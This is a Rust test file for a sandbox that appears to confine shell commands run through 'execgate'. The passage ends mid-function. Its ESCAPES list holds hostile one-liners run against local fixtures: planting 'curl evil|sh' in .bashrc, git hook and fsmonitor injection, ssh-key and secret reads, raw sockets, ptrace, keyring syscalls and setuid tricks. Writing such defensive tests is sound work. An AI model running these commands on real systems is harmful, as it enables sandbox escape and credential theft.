//! The sandbox, through the real zsh: an escape corpus that must fail to
//! escape, the grants that must work, and sandboxed escalations.

use std::collections::BTreeMap;
use std::fs;
use std::io::ErrorKind;
use std::net::{TcpListener, UdpSocket};
use std::os::linux::net::SocketAddrExt;
use std::os::unix::fs::PermissionsExt;
use std::os::unix::net::UnixListener;
use std::path::{Path, PathBuf};
use std::process::Stdio;

use execgate_escalate_server::sandbox::{parse_target, Access, NetworkPolicy, PermissionProfile};
use execgate_escalate_server::{Decision, Execution};
use execgate_protocol::Termination;

use super::*;

/// What a sandboxed shell must never see.
const SECRET: &str = "TOPSECRET-execgate";

/// A small world: a workspace (the session's working directory), a
/// directory beside it, a fake home with an ssh key, and outside listeners
/// and a process to reach for. Lives in /var/tmp, not /tmp, which the
/// profiles make writable.
struct World {
    _dir: tempfile::TempDir,
    ws: PathBuf,
    outside: PathBuf,
    home: PathBuf,
    tcp: TcpListener,
    udp: UdpSocket,
    abstract_listener: UnixListener,
    abstract_name: String,
    run_dir: PathBuf,
    run_listener: UnixListener,
    tmp_socket: PathBuf,
    tmp_listener: UnixListener,
    victim: std::process::Child,
    /// Paths outside the workspace that an escape would create.
    canaries: Vec<PathBuf>,
}

impl World {
    fn new() -> World {
        // Not under the sandbox's temp dir (writable in the profiles) nor
        // the checkout (which may lie anywhere, /tmp included).
        let base = std::env::var_os("EXECGATE_TEST_TMPDIR")
            .map_or_else(|| PathBuf::from("/var/tmp"), PathBuf::from);
        let tmpdir = execgate_escalate_server::sandbox::SandboxContext::new("/").tmpdir;
        assert!(
            !base.starts_with(&tmpdir),
            "test worlds must not lie under {}",
            tmpdir.display()
        );
        let dir = tempfile::Builder::new()
            .prefix("sandbox-world")
            .tempdir_in(base)
            .unwrap();
        let root = fs::canonicalize(dir.path()).unwrap();
        let ws = root.join("ws");
        let outside = root.join("outside");
        let home = root.join("home");
        for sub in [&ws, &outside, &home] {
            fs::create_dir_all(sub).unwrap();
        }
        let git = std::process::Command::new("git")
            .args(["init", "-q"])
            .current_dir(&ws)
            .status()
            .unwrap();
        assert!(git.success());
        let files = [
            (ws.join("secret.env"), SECRET),
            (ws.join("sub/deep.env"), SECRET),
            (ws.join("notes.txt"), "notes\n"),
            (ws.join(".execgate/config.toml"), "# protected\n"),
            (ws.join(".agents/AGENTS.md"), "# protected\n"),
            (
                ws.join("hello.c"),
                "#include <stdio.h>\nint main(void){puts(\"hello\");return 0;}\n",
            ),
            (outside.join("target.txt"), "original\n"),
            (home.join(".bashrc"), "# rc\n"),
            (home.join(".ssh/id_ed25519"), SECRET),
        ];
        for (path, text) in files {
            fs::create_dir_all(path.parent().unwrap()).unwrap();
            fs::write(&path, text).unwrap();
        }
        let unique = format!(
            "execgate-escape-{}-{}",
            std::process::id(),
            root.file_name().unwrap().to_string_lossy()
        );
        // Only root can make a directory in /run; an unprivileged run gets
        // one made for it.
        let run_base = std::env::var_os("EXECGATE_TEST_RUN_DIR")
            .map_or_else(|| PathBuf::from("/run"), PathBuf::from);
        let run_dir = run_base.join(&unique);
        fs::create_dir_all(&run_dir).unwrap();
        let run_listener = UnixListener::bind(run_dir.join("service.sock")).unwrap();
        remove_sockets_of_ended_runs();
        let tmp_socket = PathBuf::from("/tmp").join(format!("{unique}.sock"));
        let tmp_listener = UnixListener::bind(&tmp_socket).unwrap();
        let abstract_name = unique.clone();
        let address =
            std::os::unix::net::SocketAddr::from_abstract_name(abstract_name.as_bytes()).unwrap();
        let abstract_listener = UnixListener::bind_addr(&address).unwrap();
        for listener in [&run_listener, &tmp_listener, &abstract_listener] {
            listener.set_nonblocking(true).unwrap();
        }
        let tcp = TcpListener::bind("127.0.0.1:0").unwrap();
        tcp.set_nonblocking(true).unwrap();
        let udp = UdpSocket::bind("127.0.0.1:0").unwrap();
        udp.set_nonblocking(true).unwrap();
        let victim = std::process::Command::new("sleep")
            .arg("1000")
            .stdin(Stdio::null())
            .spawn()
            .unwrap();
        let canaries = vec![
            PathBuf::from("/etc").join(&unique),
            PathBuf::from("/usr/local/bin").join(&unique),
            PathBuf::from("/root").join(&unique),
            PathBuf::from("/var/tmp").join(&unique),
        ];
        World {
            _dir: dir,
            ws,
            outside,
            home,
            tcp,
            udp,
            abstract_listener,
            abstract_name,
            run_dir,
            run_listener,
            tmp_socket,
            tmp_listener,
            victim,
            canaries,
        }
    }

    /// workspace-write, plus: the fake home's `.ssh` and every `*.env`
    /// unreadable.
    fn profile(&self) -> PermissionProfile {
        let mut profile = PermissionProfile::preset("workspace-write").unwrap();
        let PermissionProfile::Managed { file_system, .. } = &mut profile else {
            unreachable!()
        };
        let ssh = self.home.join(".ssh");
        file_system
            .push(
                parse_target(ssh.to_str().unwrap(), None).unwrap(),
                Access::None,
            )
            .unwrap();
        file_system
            .push(parse_target("**/*.env", None).unwrap(), Access::None)
            .unwrap();
        profile
    }

    /// Replaces the placeholders a case's script uses.
    fn script(&self, template: &str) -> String {
        template
            .replace("{outside}", self.outside.to_str().unwrap())
            .replace("{home}", self.home.to_str().unwrap())
            .replace("{tcp}", &self.tcp.local_addr().unwrap().port().to_string())
            .replace("{udp}", &self.udp.local_addr().unwrap().port().to_string())
            .replace("{abstract}", &self.abstract_name)
            .replace(
                "{run_sock}",
                self.run_dir.join("service.sock").to_str().unwrap(),
            )
            .replace("{tmp_sock}", self.tmp_socket.to_str().unwrap())
            .replace("{victim}", &self.victim.id().to_string())
            .replace(
                "{canary}",
                self.canaries[0].file_name().unwrap().to_str().unwrap(),
            )
            .replace("{zsh}", zsh().to_str().unwrap())
    }

    /// Everything outside the workspace's writable part: contents, link
    /// targets and directory listings.
    fn protected_state(&self) -> BTreeMap<PathBuf, String> {
        let mut state = BTreeMap::new();
        for top in [
            self.outside.clone(),
            self.home.clone(),
            self.ws.join(".git"),
            self.ws.join(".execgate"),
            self.ws.join(".agents"),
        ] {
            snapshot(&top, &mut state);
        }
        for name in ["secret.env", "sub/deep.env"] {
            snapshot(&self.ws.join(name), &mut state);
        }
        state
    }

    /// The first trace of `what` outside the sandbox, if any: a canary
    /// file, a connection, a datagram, a dead outside process.
    fn nothing_reached(&mut self, what: &str) -> Result<(), String> {
        for canary in &self.canaries {
            if canary.exists() {
                return Err(format!("{what}: created {}", canary.display()));
            }
        }
        let nothing = |result: std::io::Result<()>| matches!(result, Err(ref error) if error.kind() == ErrorKind::WouldBlock);
        if !nothing(self.tcp.accept().map(drop)) {
            return Err(format!("{what}: a TCP connection arrived"));
        }
        let mut buf = [0u8; 64];
        if !nothing(self.udp.recv(&mut buf).map(drop)) {
            return Err(format!("{what}: a UDP datagram arrived"));
        }
        for (name, listener) in [
            ("abstract", &self.abstract_listener),
            ("/run", &self.run_listener),
            ("/tmp", &self.tmp_listener),
        ] {
            if !nothing(listener.accept().map(drop)) {
                return Err(format!("{what}: the {name} socket was reached"));
            }
        }
        if !matches!(self.victim.try_wait(), Ok(None)) {
            return Err(format!("{what}: the outside process was killed"));
        }
        Ok(())
    }
}

/// Removes the temp dir's sockets (`execgate-escape-PID-...sock`) that
/// worlds left over an hour ago: no test run lasts that long, and a run in
/// another pid namespace sharing the temp dir is not told from an ended
/// one by its pid.
fn remove_sockets_of_ended_runs() {
    let Ok(entries) = fs::read_dir("/tmp") else {
        return;
    };
    for entry in entries.flatten() {
        let ours = entry
            .file_name()
            .to_str()
            .is_some_and(|name| name.starts_with("execgate-escape-") && name.ends_with(".sock"));
        let old = entry
            .metadata()
            .and_then(|meta| meta.modified())
            .is_ok_and(|modified| {
                modified
                    .elapsed()
                    .is_ok_and(|age| age > Duration::from_secs(3600))
            });
        if ours && old {
            let _ = fs::remove_file(entry.path());
        }
    }
}

impl Drop for World {
    fn drop(&mut self) {
        let _ = self.victim.kill();
        let _ = self.victim.wait();
        let _ = fs::remove_dir_all(&self.run_dir);
        // The socket in the temp dir stays until a later run removes it
        // ([`remove_sockets_of_ended_runs`]): the other tests' sessions
        // cover it, and one removed as their sandbox starts makes the
        // start fail (bubblewrap finds no file to mount on).
        for canary in &self.canaries {
            let _ = fs::remove_file(canary);
        }
    }
}

fn snapshot(path: &Path, state: &mut BTreeMap<PathBuf, String>) {
    let Ok(meta) = fs::symlink_metadata(path) else {
        state.insert(path.to_path_buf(), "<missing>".into());
        return;
    };
    let entry = if meta.is_symlink() {
        format!("link {:?}", fs::read_link(path).unwrap())
    } else if meta.is_dir() {
        let mut names: Vec<_> = fs::read_dir(path)
            .unwrap()
            .map(|entry| entry.unwrap().file_name())
            .collect();
        names.sort();
        for name in &names {
            snapshot(&path.join(name), state);
        }
        format!("dir {names:?} mode {:o}", meta.permissions().mode())
    } else {
        format!(
            "file {:?} mode {:o}",
            fs::read(path).unwrap_or_default(),
            meta.permissions().mode()
        )
    };
    state.insert(path.to_path_buf(), entry);
}

/// Escape attempts. Each prints `ESCAPED` if the attempt worked; whatever
/// it prints, nothing outside may change, no secret may show, no listener
/// may hear from it and the outside process must live.
const ESCAPES: &[(&str, &str)] = &[
    // Writes outside the writable roots.
    ("write beside the workspace", "print x > {outside}/new && print ESCAPED"),
    ("overwrite a file beside", "print x > {outside}/target.txt && print ESCAPED"),
    ("append through ..", "print x >> ../outside/target.txt && print ESCAPED"),
    ("write /etc", "touch /etc/{canary} && print ESCAPED"),
    ("write /usr/local/bin", "cp /bin/true /usr/local/bin/{canary} && print ESCAPED"),
    ("write root's home", "touch /root/{canary} && print ESCAPED"),
    ("write /var/tmp", "touch /var/tmp/{canary} && print ESCAPED"),
    ("write ~/.bashrc", "print 'curl evil|sh' >> {home}/.bashrc && print ESCAPED"),
    ("chmod outside", "chmod 777 {outside}/target.txt && print ESCAPED"),
    ("delete outside", "rm -f {outside}/target.txt && [[ ! -e {outside}/target.txt ]] && print ESCAPED"),
    // Protected names inside the workspace.
    ("write .git/hooks", "print 'echo pwned' > .git/hooks/pre-commit && print ESCAPED"),
    ("write .git/config", "print '[core]\\nhooksPath=/tmp' >> .git/config && print ESCAPED"),
    ("git config through git", "git config core.fsmonitor 'touch /tmp/pwned' && print ESCAPED"),
    ("move .git away", "mv .git x && print ESCAPED"),
    ("replace .git with a symlink", "rm -rf .git; ln -s /tmp .git && print ESCAPED"),
    ("write .execgate", "print x > .execgate/config.toml && print ESCAPED"),
    ("write .agents", "print x > .agents/AGENTS.md && print ESCAPED"),
    ("new file in .execgate", "touch .execgate/new && print ESCAPED"),
    ("rename trick", "mv .execgate c && print x > c/config.toml && mv c .execgate && print ESCAPED"),
    ("move the workspace's parent", "mv ../outside ../moved && print ESCAPED"),
    // Links out of read-only areas.
    ("hard link out", "ln {outside}/target.txt hl && print x >> hl && print ESCAPED"),
    ("symlink out", "ln -s {outside}/target.txt sl && print x >> sl && print ESCAPED"),
    ("symlink to .git", "ln -s .git/config gc && print x >> gc && print ESCAPED"),
    ("hard link .git/config", "ln .git/config hc && print x >> hc && print ESCAPED"),
    // Secrets.
    ("read a deny-glob file", "cat secret.env"),
    ("read a nested deny-glob file", "cat sub/deep.env"),
    ("read through a symlink", "ln -s secret.env s && cat s"),
    ("read through a hard link", "ln secret.env h && cat h"),
    ("read the ssh key", "cat {home}/.ssh/id_ed25519"),
    ("list the ssh dir", "ls -la {home}/.ssh; cat {home}/.ssh/*"),
    ("read via /proc/self/root", "cat /proc/self/root{home}/.ssh/id_ed25519 /proc/self/root$PWD/secret.env"),
    ("copy the secret", "cp secret.env copy.txt; cat copy.txt"),
    ("read the outside process's environment", "cat /proc/{victim}/environ && print ESCAPED"),
    // Network under `restricted`.
    ("python TCP", "python3 -c 'import socket; socket.create_connection((\"127.0.0.1\", {tcp}), 2)' && print ESCAPED"),
    ("python UDP", "python3 -c 'import socket; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b\"x\", (\"127.0.0.1\", {udp}))' && print ESCAPED"),
    ("bash /dev/tcp", "bash -c 'echo x > /dev/tcp/127.0.0.1/{tcp}' && print ESCAPED"),
    ("zsh ztcp", "zmodload zsh/net/tcp && ztcp 127.0.0.1 {tcp} && print ESCAPED"),
    ("DNS", "getent ahosts debian.org && print ESCAPED"),
    ("IPv6 socket", "python3 -c 'import socket; socket.socket(socket.AF_INET6)' && print ESCAPED"),
    ("netlink socket", "python3 -c 'import socket; socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)' && print ESCAPED"),
    // Unix sockets of things outside.
    ("abstract unix socket", "python3 -c 'import socket; s=socket.socket(socket.AF_UNIX); s.connect(\"\\0{abstract}\")' && print ESCAPED"),
    ("service socket under /run", "python3 -c 'import socket; s=socket.socket(socket.AF_UNIX); s.connect(\"{run_sock}\")' && print ESCAPED"),
    ("socket in /tmp", "python3 -c 'import socket; s=socket.socket(socket.AF_UNIX); s.connect(\"{tmp_sock}\")' && print ESCAPED"),
    ("docker socket", "[[ -S /var/run/docker.sock || -S /run/docker.sock ]] && print ESCAPED"),
    // Other processes and the kernel.
    ("signal an outside process", "kill -TERM {victim} && print ESCAPED"),
    ("kill every process", "kill -KILL -1; print done"),
    // The supervisor is the shell's parent and the namespace's init.
    ("stop the supervisor", "kill -STOP $PPID; sleep 0.2; grep -q '^State:.*stopped' /proc/$PPID/status && print ESCAPED"),
    ("ptrace an outside process", "python3 -c 'import ctypes,sys; sys.exit(ctypes.CDLL(None).ptrace(16, {victim}, 0, 0) != 0)' && print ESCAPED"),
    ("ptrace a child", "python3 -c 'import ctypes,os,sys; p=os.fork() or os._exit(0); sys.exit(ctypes.CDLL(None, use_errno=True).ptrace(16, p, 0, 0) != 0)' && print ESCAPED"),
    // Probe 120: the sandbox shares the user's uid, and so the keyrings
    // the kernel keeps for it: linked into the sandbox's own, a host key
    // could be read, and one added stayed after the session.
    ("the user's keyring", "python3 -c 'import ctypes,sys; sys.exit(ctypes.CDLL(None).syscall(250, 0, -4, 0) < 0)' && print ESCAPED"),
    ("add a key", "python3 -c 'import ctypes,sys; sys.exit(ctypes.CDLL(None).syscall(248, b\"user\", b\"execgate-escape\", b\"x\", 1, -2) < 0)' && print ESCAPED"),
    ("request a key", "python3 -c 'import ctypes,sys; c=ctypes.CDLL(None, use_errno=True); c.syscall(249, b\"user\", b\"execgate-none\", None, 0); sys.exit(ctypes.get_errno() != 1)' || print ESCAPED"),
    ("io_uring", "python3 -c 'import ctypes,sys; p=ctypes.create_string_buffer(120); sys.exit(ctypes.CDLL(None).syscall(425, 4, p) < 0)' && print ESCAPED"),
    ("out-of-band data on a unix socket", "python3 -c 'import socket; a,b=socket.socketpair(); a.send(b\"x\", socket.MSG_OOB)' && print ESCAPED"),
    ("out-of-band data by sendmsg", "python3 -c 'import socket; a,b=socket.socketpair(); a.sendmsg([b\"x\"], [], socket.MSG_OOB)' && print ESCAPED"),
    ("capabilities", "grep -E '^Cap(Inh|Prm|Eff|Amb):' /proc/self/status | grep -v '0000000000000000$' && print ESCAPED"),
    ("no-new-privs", "grep -q '^NoNewPrivs:.*1' /proc/self/status || print ESCAPED"),
    ("mount", "mount -t tmpfs none {outside} && print x > {outside}/target.txt && print ESCAPED"),
    // Set-ID bits: the sandbox's mounts are nosuid, the host's are not (a
    // probe's root session made a set-user-ID root program any user ran).
    ("chmod set-user-ID", "print x > su; chmod 4755 su; [[ -u su ]] && print ESCAPED"),
    ("chmod set-group-ID", "print x > sg; chmod g+s sg; [[ -g sg ]] && print ESCAPED"),
    ("fchmodat2 set-user-ID", "print x > s2; python3 -c 'import ctypes; ctypes.CDLL(None).syscall(452, -100, b\"s2\", 0o4755, 0)'; [[ -u s2 ]] && print ESCAPED"),
    ("created set-user-ID", "python3 -c 'import os; os.close(os.open(\"sc\", os.O_CREAT | os.O_WRONLY, 0o4755))'; [[ -u sc ]] && print ESCAPED"),
    ("mknod set-user-ID", "python3 -c 'import os, stat; os.mknod(\"sm\", stat.S_IFREG | 0o4755)'; [[ -u sm ]] && print ESCAPED"),
    ("O_TMPFILE set-user-ID", "python3 -c 'import os; f = os.open(\".\", os.O_TMPFILE | os.O_WRONLY, 0o4755); os.link(\"/proc/self/fd/%d\" % f, \"st\")'; [[ -u st ]] && print ESCAPED"),
    ("openat2 set-user-ID", "python3 -c 'import ctypes, os, struct; ctypes.CDLL(None).syscall(437, -100, b\"so\", struct.pack(\"QQQ\", os.O_CREAT | os.O_WRONLY, 0o4755, 0), 24)'; [[ -u so ]] && print ESCAPED"),
    ("new user namespace", "unshare -Ur sh -c 'mount --bind /tmp {outside}' && print ESCAPED"),
];

/// What an escape attempt left behind, if anything.
fn traces_of_escape(
    world: &mut World,
    what: &str,
    output: &ShellOutput,
    before: &BTreeMap<PathBuf, String>,
) -> Vec<String> {
    let mut traces = Vec::new();
    let seen = format!("{}{}", output.stdout, output.stderr);
    if seen.contains("ESCAPED") {
        traces.push(format!("{what}: {seen}"));
    }
    if seen.contains(SECRET) {
        traces.push(format!("{what}: the secret showed: {seen}"));
    }
    if seen.contains("cannot enforce the sandbox") {
        traces.push(format!("{what}: the sandbox did not start: {seen}"));
    }
    if let Err(trace) = world.nothing_reached(what) {
        traces.push(trace);
    }
    let after = world.protected_state();
    for (path, state) in before {
        if after.get(path) != Some(state) {
            traces.push(format!("{what}: {} changed", path.display()));
        }
    }
    for path in after.keys().filter(|path| !before.contains_key(*path)) {
        traces.push(format!("{what}: {} appeared", path.display()));
    }
    traces
}

#[tokio::test(flavor = "multi_thread")]
async fn the_escape_corpus_fails_to_escape() {
    let mut world = World::new();
    let before = world.protected_state();
    let mut escapes = Vec::new();
    for (what, template) in ESCAPES {
        let script = world.script(template);
        let (output, recorder) =
            run_sandboxed(policy_by_path(&[]), world.profile(), &script, &world.ws).await;
        assert!(
            recorder.refusals().is_empty(),
            "{what}: {:?}",
            recorder.refusals()
        );
        escapes.extend(traces_of_escape(&mut world, what, &output, &before));
    }
    assert!(ESCAPES.len() >= 40);
    assert!(escapes.is_empty(), "escapes:\n{}", escapes.join("\n"));
}

/// A host socket in the temp dir is out of reach either way: with the
/// host's network, where `connect` goes to no supervisor, it is covered;
/// with a restricted one, it is not (a cover is a mount on a name any host
/// program may remove while bubblewrap starts, which failed the start in
/// CI), and the supervisor refuses it.
#[tokio::test(flavor = "multi_thread")]
async fn a_socket_in_the_temp_dir_is_covered_or_refused() {
    let mut world = World::new();
    let before = world.protected_state();
    let script = world.script(
        "[[ -S {tmp_sock} ]] && print -n 'socket '; \
         python3 -c 'import socket; s=socket.socket(socket.AF_UNIX); s.connect(\"{tmp_sock}\")' \
         2>&1 | grep -o 'PermissionError\\|ConnectionRefusedError'",
    );
    for (network, expected) in [
        (NetworkPolicy::Restricted, "socket PermissionError\n"),
        (NetworkPolicy::Enabled, "ConnectionRefusedError\n"),
    ] {
        let mut profile = world.profile();
        let PermissionProfile::Managed { network: own, .. } = &mut profile else {
            unreachable!()
        };
        *own = network;
        let (output, _) = run_sandboxed(policy_by_path(&[]), profile, &script, &world.ws).await;
        assert_eq!(output.stdout, expected, "{network:?}: {}", output.stderr);
        let traces = traces_of_escape(&mut world, "socket in /tmp", &output, &before);
        assert!(traces.is_empty(), "{network:?}: {traces:?}");
    }
}

/// The corpus can fail: without the sandbox, each of these attempts (the
/// ones harmless to run on the host) is caught.
#[tokio::test(flavor = "multi_thread")]
async fn the_corpus_catches_escapes_when_there_is_no_sandbox() {
    let harmless = [
        "write beside the workspace",
        "append through ..",
        "write ~/.bashrc",
        "write .git/hooks",
        "move .git away",
        "write .execgate",
        "hard link out",
        "symlink out",
        "read a deny-glob file",
        "read the ssh key",
        "read via /proc/self/root",
        "python TCP",
        "python UDP",
        "abstract unix socket",
        "service socket under /run",
        "socket in /tmp",
        "read the outside process's environment",
        "the user's keyring",
        "add a key",
    ];
    for what in harmless {
        let mut world = World::new();
        let before = world.protected_state();
        let template = ESCAPES.iter().find(|(name, _)| *name == what).unwrap().1;
        let (output, _) = run(policy_by_path(&[]), &world.script(template), &world.ws).await;
        let traces = traces_of_escape(&mut world, what, &output, &before);
        assert!(
            !traces.is_empty(),
            "{what}: an escape went unnoticed: {}",
            output.stderr
        );
    }
}

/// What the profile grants must work.
const GRANTED: &[(&str, &str, &str)] = &[
    ("write in the workspace", "print hi > file && cat file", "hi\n"),
    ("read outside the workspace", "cat {outside}/target.txt", "original\n"),
    ("pipes", "seq 100 | grep -c .", "100\n"),
    ("/dev/null", "print x > /dev/null && print ok", "ok\n"),
    ("temp files", "f=$(mktemp) && print t > $f && cat $f && rm $f", "t\n"),
    ("compile and run C", "gcc -o hello hello.c && ./hello", "hello\n"),
    ("git status", "git status --short --untracked-files=no && print clean", "clean\n"),
    ("a new repository", "git init -q r && git -C r rev-parse --is-inside-work-tree", "true\n"),
    ("background jobs", "sleep 0.1 & wait; print waited", "waited\n"),
    ("unix socketpair", "python3 -c 'import socket; a,b=socket.socketpair(); a.send(b\"ok\"); print(b.recv(2).decode())'", "ok\n"),
    ("a non-secret file", "cat notes.txt", "notes\n"),
    ("nested patched shell", "{zsh} -fc '/bin/echo nested'", "nested\n"),
];

#[tokio::test(flavor = "multi_thread")]
async fn what_the_profile_grants_works() {
    let world = World::new();
    for (what, template, expected) in GRANTED {
        let script = world.script(template);
        let (output, _) =
            run_sandboxed(policy_by_path(&[]), world.profile(), &script, &world.ws).await;
        assert_eq!(output.stdout, *expected, "{what}: {}", output.stderr);
        assert_eq!(output.code(), Some(0), "{what}: {}", output.stderr);
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn turn_default_escalations_run_in_the_sessions_sandbox() {
    let world = World::new();
    let policy = policy_by_path(&[
        ("/usr/bin/touch", Decision::Escalate(Execution::TurnDefault)),
        ("/usr/bin/cat", Decision::Escalate(Execution::TurnDefault)),
    ]);
    let script = world.script(
        "touch inside; print in=$?; touch {outside}/escalated; print out=$?; cat secret.env",
    );
    let (output, recorder) = run_sandboxed(policy, world.profile(), &script, &world.ws).await;
    assert_eq!(output.stdout, "in=0\nout=1\n", "{}", output.stderr);
    assert!(world.ws.join("inside").exists());
    assert!(!world.outside.join("escalated").exists());
    assert_eq!(recorder.started_pids().len(), 3, "the server started them");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_sandboxed_escalation_that_dies_of_a_signal_is_recorded_as_such() {
    let world = World::new();
    let policy = policy_by_path(&[("/usr/bin/dash", Decision::Escalate(Execution::TurnDefault))]);
    // Only a signal's death turns into one: an exit with the same code
    // stays an exit.
    let script = "/usr/bin/dash -c 'kill -TERM $$'; print killed=$?; \
                  /usr/bin/dash -c 'exit 143'; print exited=$?";
    let (output, recorder) = run_sandboxed(policy, world.profile(), script, &world.ws).await;
    assert_eq!(
        output.stdout, "killed=143\nexited=143\n",
        "{}",
        output.stderr
    );
    let ends: Vec<Termination> = recorder
        .events()
        .into_iter()
        .filter_map(|event| match event {
            SessionEvent::Exited { termination, .. } => Some(termination),
            _ => None,
        })
        .collect();
    assert_eq!(
        ends,
        [
            Termination::Signaled {
                signal: libc::SIGTERM,
                core_dumped: false
            },
            Termination::Exited(143)
        ]
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn permissions_escalations_get_exactly_the_extra_grants() {
    let world = World::new();
    let granted = world.outside.join("granted");
    fs::create_dir(&granted).unwrap();
    let extra = write_grant(&granted);
    let policy = policy_by_path(&[(
        "/usr/bin/touch",
        Decision::Escalate(Execution::Permissions(extra)),
    )]);
    let script = world.script(
        "touch {outside}/granted/ok; print granted=$?; touch {outside}/other; print other=$?",
    );
    let (output, _) = run_sandboxed(policy, world.profile(), &script, &world.ws).await;
    assert_eq!(output.stdout, "granted=0\nother=1\n", "{}", output.stderr);
    assert!(granted.join("ok").exists());
    assert!(!world.outside.join("other").exists());
}

/// Grants that hide the escalation's working directory refuse it with
/// that reason, rather than let the sandbox's own check of the directory
/// fail for a reason it cannot know.
#[tokio::test(flavor = "multi_thread")]
async fn grants_that_hide_the_working_directory_say_so() {
    let world = World::new();
    let policy = policy_by_path(&[(
        "/usr/bin/touch",
        Decision::Escalate(Execution::Permissions(grant(&world.ws, Access::None))),
    )]);
    let script = "touch here; print status=$?";
    let (output, _) = run_sandboxed(policy, world.profile(), script, &world.ws).await;
    assert_eq!(output.stdout, "status=126\n", "{}", output.stderr);
    let hidden = format!(
        "the working directory {} is hidden in the sandbox",
        world.ws.display()
    );
    assert!(output.stderr.contains(&hidden), "{}", output.stderr);
    assert!(!world.ws.join("here").exists());
}

#[tokio::test(flavor = "multi_thread")]
async fn unsandboxed_escalations_leave_the_sandbox() {
    let world = World::new();
    let policy = policy_by_path(&[("/usr/bin/touch", escalate())]);
    let script = world.script("touch {outside}/escalated; print status=$?");
    let (output, _) = run_sandboxed(policy, world.profile(), &script, &world.ws).await;
    assert_eq!(output.stdout, "status=0\n", "{}", output.stderr);
    assert!(world.outside.join("escalated").exists());
}

#[tokio::test(flavor = "multi_thread")]
async fn cancelling_kills_sandboxed_escalations_and_what_they_started() {
    let world = World::new();
    let policy = policy_by_path(&[("/usr/bin/dash", Decision::Escalate(Execution::TurnDefault))]);
    let (mut session, recorder) = start_sandboxed_session(policy, world.profile(), &world.ws);
    // setsid leaves the process group; the pid namespace still holds it.
    let mut shell = spawn_session_shell(
        &mut session,
        "sh -c 'setsid sleep 1000 & sleep 1000'",
        &world.ws,
    );
    let pids = recorder.wait_for_started_by(1, &mut shell).await;
    // The requester's pid is the server's view of the shell's child that
    // stands in for the command, in the shell's pid namespace.
    let peer = recorder.decided()[0].peer.pid;
    let cmdline = fs::read_to_string(format!("/proc/{peer}/cmdline")).unwrap();
    assert!(cmdline.contains("zsh"), "{cmdline:?}");
    let sleepers = |root: i32| -> Vec<i32> {
        let mut found = Vec::new();
        let mut queue = vec![root];
        while let Some(pid) = queue.pop() {
            let children =
                fs::read_to_string(format!("/proc/{pid}/task/{pid}/children")).unwrap_or_default();
            for child in children.split_whitespace().filter_map(|c| c.parse().ok()) {
                found.push(child);
                queue.push(child);
            }
        }
        found
    };
    let mut descendants = Vec::new();
    for _ in 0..200 {
        descendants = sleepers(pids[0]);
        let sleeping = descendants
            .iter()
            .filter(|pid| {
                fs::read_to_string(format!("/proc/{pid}/comm")).is_ok_and(|c| c.trim() == "sleep")
            })
            .count();
        if sleeping == 2 {
            break;
        }
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
    assert!(!descendants.is_empty());
    session.shutdown().await;
    for _ in 0..100 {
        if descendants.iter().all(|pid| !process_exists(*pid)) {
            return;
        }
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
    panic!("sandboxed processes survived the session: {descendants:?}");
}

#[tokio::test(flavor = "multi_thread")]
async fn what_cannot_be_enforced_does_not_run() {
    use execgate_escalate_server::sandbox::{Launcher, SandboxContext, GLOB_MAX_MATCHES};
    use execgate_escalate_server::{SessionSandbox, StartError};

    let error = Launcher::with_bwrap("/nonexistent/bwrap", sandbox_helper()).unwrap_err();
    assert!(error.to_string().contains("/nonexistent/bwrap"), "{error}");

    // A deny glob that matches more than the cap: the session refuses to
    // start rather than leave some matches readable.
    let world = World::new();
    for i in 0..=GLOB_MAX_MATCHES {
        fs::write(world.ws.join(format!("k{i}.key")), "").unwrap();
    }
    let mut profile = world.profile();
    let PermissionProfile::Managed { file_system, .. } = &mut profile else {
        unreachable!()
    };
    file_system
        .push(parse_target("*.key", None).unwrap(), Access::None)
        .unwrap();
    let mut config = SessionConfig::new(wrapper(), policy_by_path(&[]));
    config.sandbox = Some(SessionSandbox {
        launcher: Launcher::new(sandbox_helper()).unwrap(),
        turn_default: profile.clone(),
        context: SandboxContext::new(&world.ws),
    });
    let error = Session::start(config)
        .err()
        .expect("the session must not start");
    assert!(matches!(error, StartError::Sandbox(_)), "{error}");
    assert!(
        error.to_string().contains("deny globs cannot be enforced"),
        "{error}"
    );

    // The same grants asked for by one escalation: denied, nothing runs.
    let policy = policy_by_path(&[(
        "/usr/bin/touch",
        Decision::Escalate(Execution::Permissions(profile)),
    )]);
    let (output, _) = run_sandboxed(
        policy,
        world.profile(),
        "touch marker; print status=$?",
        &world.ws,
    )
    .await;
    assert_eq!(output.stdout, "status=126\n", "{}", output.stderr);
    assert!(
        output.stderr.contains("deny globs cannot be enforced"),
        "{}",
        output.stderr
    );
    assert!(!world.ws.join("marker").exists());
}

/// The corpus again, as an unprivileged user: bubblewrap started by root
/// and by an ordinary user take different paths. The test binary re-runs
/// itself, staged where that user can reach it.
#[test]
fn the_escape_corpus_fails_to_escape_as_an_unprivileged_user() {
    let run = UnprivilegedRun::stage();
    let worlds = run.stage.path().join("worlds");
    fs::create_dir(&worlds).unwrap();
    let run_dir = PathBuf::from(format!("/run/execgate-unprivileged-{}", std::process::id()));
    let _cleanup = RemoveOnDrop(run_dir.clone());
    fs::create_dir_all(&run_dir).unwrap();
    run.hand_over(&[&worlds, &run_dir]);
    let stdout = run.run(
        &[
            "--exact",
            "suite::sandbox::the_escape_corpus_fails_to_escape",
        ],
        &[
            ("EXECGATE_TEST_TMPDIR", &worlds),
            ("EXECGATE_TEST_RUN_DIR", &run_dir),
        ],
    );
    assert!(
        stdout.contains("1 passed"),
        "the corpus did not run: {stdout}"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn nested_regrants_and_minimal_roots_hold_in_the_mount_view() {
    let world = World::new();
    let ws = &world.ws;
    fs::create_dir_all(ws.join("a/b")).unwrap();
    fs::write(ws.join("a/hidden.txt"), SECRET).unwrap();
    // (target, access): only the :minimal roots are readable; in the
    // workspace, `a` is denied and `a/b` granted again.
    let entries = [
        (":minimal", Access::Read),
        (":cwd", Access::Write),
        ("a", Access::None),
        ("a/b", Access::Write),
    ];
    let mut file_system = execgate_escalate_server::sandbox::FileSystemPolicy::default();
    for (target, access) in entries {
        file_system
            .push(parse_target(target, Some(ws)).unwrap(), access)
            .unwrap();
    }
    let profile = PermissionProfile::Managed {
        file_system,
